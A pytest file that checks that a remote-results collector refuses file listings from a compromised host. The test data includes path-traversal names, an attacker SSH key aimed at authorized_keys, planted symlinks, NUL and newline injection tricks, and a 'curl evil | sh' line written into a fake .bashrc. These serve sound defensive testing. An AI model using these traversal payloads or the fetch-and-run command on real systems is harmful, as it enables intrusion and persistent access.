"""Collect against a host that lies: what a host lists never becomes a path outside results/RUN_ID/HOST/.

`CompromisedHost` answers collect's listing with whatever entries a test gives it and serves their bytes,
as a host whose login shell or `find` a workload has tampered with would. What matters is what collect does
with the answer, so no SSH is needed here; the separator test runs the real listing on this machine.
"""

from __future__ import annotations

import hashlib
import io
import json
from pathlib import Path
from types import SimpleNamespace

import pytest
from rich.console import Console

from ernie import run as run_module
from ernie.inventory import local_inventory, parse_inventory
from ernie.remote import collect
from ernie.remote.collect import collect_host, sha256_file
from ernie.remote.connect import Connector, Timeouts
from ernie.remote.layout import Layout
from ernie.remote.runners import Probe
from ernie.results.rundir import read_run
from ernie.run import RunOptions, collect_run
from ernie.rundir import RunRecord, still_verified

LAYOUT = Layout(base="/home/ernie/ernie", workload="w", run_id="r")


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


class CompromisedHost:
    """A Session stand-in: its listing holds `files` (name -> bytes) plus any raw `injected` entries."""

    def __init__(self, files: dict[str, bytes], sizes: tuple[str, ...] = (), digests: tuple[str, ...] = ()):
        self.host = SimpleNamespace(name="w0", worker=0)
        self.timeouts = Timeouts()
        self.files = files
        self.sizes = [f"{len(d)} {n}" for n, d in files.items()] + list(sizes)
        self.digests = [f"{sha(d)}  ./{n}" for n, d in files.items()] + list(digests)
        self.fetched: list[str] = []

    def check(self, command: str, what: str, timeout: float | None = None) -> str:
        assert "find" in command, f"only the listing is asked for with check(), got {command!r}"
        return "".join(f"{e}\0" for e in [*self.sizes, collect._SEPARATOR, *self.digests])

    def fetch(self, remote_path: str, dest: io.BufferedIOBase, offset: int) -> int:
        name = remote_path.split("/output/", 1)[1]
        self.fetched.append(name)
        data = self.files[name][offset:]
        dest.write(data)
        return len(data)

    def close(self) -> None:
        pass


def snapshot(root: Path, skip: Path) -> dict[str, bytes | str]:
    """Every file and link under `root` but outside `skip`, with its content (a link: its target)."""
    found: dict[str, bytes | str] = {}
    for p in root.rglob("*"):
        if p == skip or skip in p.parents:
            continue
        if p.is_symlink():
            found[str(p)] = f"-> {p.readlink()}"
        elif p.is_file():
            found[str(p)] = p.read_bytes()
    return found


@pytest.fixture
def dest(tmp_path: Path) -> Path:
    d = tmp_path / "results" / "20261128-081500-w-3fa2" / "w0"
    d.mkdir(parents=True)
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "victim.txt").write_bytes(b"the operator's file\n")
    return d


def test_relative_and_absolute_escapes_are_refused_and_the_rest_collected(tmp_path: Path, dest: Path) -> None:
    absolute = str(tmp_path / "outside" / "authorized_keys")
    host = CompromisedHost({
        "stdout.log": b"ok\n", "exit_code": b"0\n", "sub/result.json": b"{}",
        "../../../escaped.txt": b"relative escape", "sub/../../../../deep.txt": b"through a directory",
        absolute: b"ssh-ed25519 AAAA attacker", "./dot.txt": b"a dot part", "a//b.txt": b"an empty part",
    })
    before = snapshot(tmp_path, dest)
    got = collect_host(host, LAYOUT, dest, ("**/*",))
    assert snapshot(tmp_path, dest) == before, "nothing is written outside the host's directory"
    assert set(got.files) == {"stdout.log", "exit_code", "sub/result.json"}
    for name in ("stdout.log", "exit_code", "sub/result.json"):
        assert (dest / name).read_bytes() == host.files[name]
    assert got.refused == {
        "../../../escaped.txt": "an empty, '.' or '..' path component",
        "sub/../../../../deep.txt": "an empty, '.' or '..' path component",
        absolute: "an absolute path",
        "./dot.txt": "an empty, '.' or '..' path component",
        "a//b.txt": "an empty, '.' or '..' path component",
    }
    assert set(host.fetched) == {"stdout.log", "exit_code", "sub/result.json"}, "a refused file is not even fetched"


def test_symbolic_links_already_in_the_destination_are_never_written_through(tmp_path: Path, dest: Path) -> None:
    outside = tmp_path / "outside"
    (dest / "linkdir").symlink_to(outside)  # a directory link: linkdir/x would land in outside/
    (dest / "victim.txt").symlink_to(outside / "victim.txt")  # the file itself is a link
    (dest / "p.txt.part").symlink_to(outside / "victim.txt")  # a resumed part that is a link
    host = CompromisedHost({"linkdir/x.txt": b"through a linked directory", "victim.txt": b"overwritten",
                            "p.txt": b"appended through the part", "good.txt": b"fine"})
    before = snapshot(tmp_path, dest)
    got = collect_host(host, LAYOUT, dest, ("**/*",))
    assert snapshot(tmp_path, dest) == before
    assert (outside / "victim.txt").read_bytes() == b"the operator's file\n"
    assert set(got.files) == {"good.txt"} and (dest / "good.txt").read_bytes() == b"fine"
    assert got.refused == {"linkdir/x.txt": f"linkdir is a symbolic link in {dest}",
                           "victim.txt": f"victim.txt is a symbolic link in {dest}",
                           "p.txt": f"p.txt.part is a symbolic link in {dest}"}
    assert (dest / "victim.txt").is_symlink() and (dest / "p.txt.part").is_symlink(), "links are left as found"


def test_nul_and_newline_tricks_in_the_listing_write_nothing_outside(tmp_path: Path, dest: Path) -> None:
    digest = sha(b"x")
    host = CompromisedHost(
        {"good.txt": b"good", "trailing newline\n": b"a legal name",
         # one name whose newline would start a forged `DIGEST  NAME` line for a line-based reader
         f"ok.txt\n{digest}  ../../nl-escape.txt": b"x"},
        # a NUL inside a "name" splits it into an entry of its own
        sizes=("4 good.txt\0../../nul-escape.txt", "x ../../not-a-size"),
        digests=(f"{sha(b'good')}  ./good.txt\0{digest}  ../../nul-escape.txt", "not-a-digest  ./good.txt"),
    )
    before = snapshot(tmp_path, dest)
    got = collect_host(host, LAYOUT, dest, ("**/*",))
    assert snapshot(tmp_path, dest) == before
    assert set(got.files) == {"good.txt", "trailing newline\n"}
    assert (dest / "trailing newline\n").read_bytes() == b"a legal name"
    assert got.refused[f"ok.txt\n{digest}  ../../nl-escape.txt"] == "an empty, '.' or '..' path component"
    assert got.refused["../../nul-escape.txt"] == "not a 'SIZE NAME' entry in the host's listing"
    assert got.refused["x ../../not-a-size"] == "not a 'SIZE NAME' entry in the host's listing"
    assert got.refused[f"{digest}  ../../nul-escape.txt"] == "not a 'SHA256  ./NAME' entry in the host's listing"
    assert got.refused["not-a-digest  ./good.txt"] == "not a 'SHA256  ./NAME' entry in the host's listing"


def test_a_file_named_like_the_listing_separator_is_collected_like_any_other(tmp_path: Path) -> None:
    inventory = local_inventory()
    session = Connector(inventory, tmp_path / "known_hosts", Timeouts()).open(inventory.hosts[0])
    layout = Layout(base=str(tmp_path / "base"), workload="w", run_id="r")
    output = Path(layout.output)
    output.mkdir(parents=True)
    names = {"--ernie-digests--": b"the old separator", "ernie-digests": b"the new one, less its slash",
             "5 --ernie-digests--": b"a size entry's look", "stdout.log": b"out\n", "stderr.log": b"",
             "exit_code": b"0\n"}
    for name, data in names.items():
        (output / name).write_bytes(data)
    got = collect_host(session, layout, tmp_path / "local", ("**/*",))
    assert set(got.files) == set(names) and got.refused == {}
    for name, data in names.items():
        assert (tmp_path / "local" / name).read_bytes() == data
        assert got.files[name] == {"size": len(data), "sha256": sha256_file(output / name)}


def test_a_lying_host_is_marked_with_its_refused_files_not_missing(tmp_path: Path, dest: Path,
                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    results = dest.parents[1]
    run_id = dest.parent.name
    inventory = parse_inventory({"runner": "tpu-vm", "ssh_user": "ernie", "ssh_private_key": "PEM",
                                 "hosts": [{"name": "w0", "address": "192.0.2.1", "worker": 0}]}, source="test")
    record = RunRecord(run_id=run_id, workload="w", spec_file="/w/workload.toml", params={}, command="true",
                       created="2026-11-28T08:15:00Z", inventory_source={"kind": "file", "value": "/inv.json"},
                       inventory=inventory.public(), collect_paths=["**/*"], progress_total=None,
                       progress_regex=None, requirements=None, requirements_sha256=None,
                       host_bases={"w0": "/home/ernie/ernie"})
    record.save(results)
    keys = str(tmp_path / "outside" / "authorized_keys")  # as ~/.ssh/authorized_keys would be
    host = CompromisedHost({"stdout.log": b"out\n", "exit_code": b"0\n", "stderr.log": b"",
                            "../../../.bashrc": b"curl evil | sh\n", keys: b"ssh-ed25519 AAAA attacker"})
    monkeypatch.setattr(run_module, "connect_all", lambda *a, **k: ({"w0": host}, {}))
    monkeypatch.setattr(run_module, "probe", lambda s, layout: Probe("w0", False, 0, 1, 0))
    before = snapshot(tmp_path, results)
    collect_run(record, inventory, RunOptions(results_root=results), Console(file=io.StringIO()))
    assert snapshot(tmp_path, results) == before
    entry = json.loads((results / run_id / "manifest.json").read_text())["hosts"]["w0"]
    assert entry["state"] == "complete" and entry["exit_code"] == 0, "its real files were collected"
    assert set(entry["files"]) == {"stdout.log", "exit_code", "stderr.log"}
    assert set(entry["refused"]) == {"../../../.bashrc", keys}
    assert "2 file name(s) refused" in entry["reason"]
    problems = read_run(results / run_id).problems
    assert any("2 file name(s) the host listed were refused" in p for p in problems), problems


def test_names_read_back_from_a_manifest_are_checked_like_a_hosts(tmp_path: Path, dest: Path) -> None:
    outside = tmp_path / "outside" / "victim.txt"
    (dest / "ok.txt").write_bytes(b"ok")
    (dest / "link.txt").symlink_to(outside)
    files = {"ok.txt": {"size": 2, "sha256": sha(b"ok")},
             "../../../outside/victim.txt": {"size": 20, "sha256": sha256_file(outside)},
             str(outside): {"size": 20, "sha256": sha256_file(outside)},
             "link.txt": {"size": 20, "sha256": sha256_file(outside)}}
    assert still_verified(dest, files) == {"ok.txt": files["ok.txt"]}

    run_dir = dest.parent
    (run_dir / "manifest.json").write_text(json.dumps({"hosts": {
        "w0": {"worker": 0, "state": "complete", "exit_code": 0, "files": files},
        "../outside": {"worker": 1, "state": "complete", "exit_code": 0, "files": {}}}}))
    run = read_run(run_dir)
    assert [w.name for w in run.workers] == ["w0"]
    assert any("host '../outside' is not a directory of the run" in p for p in run.problems), run.problems
    for name in ("../../../outside/victim.txt", str(outside), "link.txt"):
        assert any(f"manifest.json lists {name!r}, not a file of" in p for p in run.problems), (name, run.problems)
